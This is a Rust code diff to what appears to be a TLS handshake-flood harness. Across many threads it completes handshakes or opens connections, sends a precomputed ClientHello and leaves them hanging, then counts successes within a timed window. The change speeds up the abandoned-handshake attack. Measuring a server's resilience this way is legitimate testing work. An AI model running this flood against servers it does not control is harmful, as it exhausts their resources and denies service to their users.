@@ -39,13 +39,14 @@ pub(crate) enum Handshake {
 /// Performs handshakes as fast as possible and returns their number within the measurement.
 pub(crate) fn tls(attack: &AttackArguments, commands: &Commands, handshake: Handshake) -> Outcome<u64> {
     let config = Arc::new(tls_config(&attack.certificate)?);
+    let hello = client_hello(attack.tls, &config)?;
     print("ready");
     let window = commands.window()?;
     clock::sleep_until(window.start);
     let done = AtomicU64::new(0);
     std::thread::scope(|scope| {
         for number in 0..THREADS {
-            let (config, done) = (&config, &done);
+            let (config, hello, done) = (&config, &hello, &done);
             scope.spawn(move || {
                 let mut rng = StdRng::seed_from_u64(number);
                 let mut open = Vec::new();
@@ -53,7 +54,7 @@ pub(crate) fn tls(attack: &AttackArguments, commands: &Commands, handshake: Hand
                     // A connection that the server or its kernel refuses counts for nothing.
                     let result = match handshake {
                         Handshake::Completed => complete(attack.tls, config, &mut rng),
-                        Handshake::Abandoned => abandon(attack.tls, config, &mut rng, &mut open),
+                        Handshake::Abandoned => abandon(attack.tls, hello, &mut rng, &mut open),
                     };
                     if result.is_ok() && window.counts(clock::now()) {
                         done.fetch_add(1, Ordering::Relaxed);
@@ -74,15 +75,16 @@ fn complete(server: SocketAddr, config: &Arc<ClientConfig>, rng: &mut StdRng) ->
     Ok(())
 }
 
-fn abandon(
-    server: SocketAddr,
-    config: &Arc<ClientConfig>,
-    rng: &mut StdRng,
-    open: &mut Vec<TcpStream>,
-) -> Outcome<()> {
-    let mut session = ClientConnection::new(Arc::clone(config), server.ip().into())?;
+/// Returns the bytes of a ClientHello, which all abandoned handshakes share.
+fn client_hello(server: SocketAddr, config: &Arc<ClientConfig>) -> Outcome<Vec<u8>> {
+    let (mut session, mut hello) = (ClientConnection::new(Arc::clone(config), server.ip().into())?, Vec::new());
+    session.write_tls(&mut hello)?;
+    Ok(hello)
+}
+
+fn abandon(server: SocketAddr, hello: &[u8], rng: &mut StdRng, open: &mut Vec<TcpStream>) -> Outcome<()> {
     let mut stream = connect(server, rng)?;
-    session.write_tls(&mut stream)?;
+    stream.write_all(hello)?;
     open.push(stream);
     if open.len() > ABANDONED {
         open.remove(0);
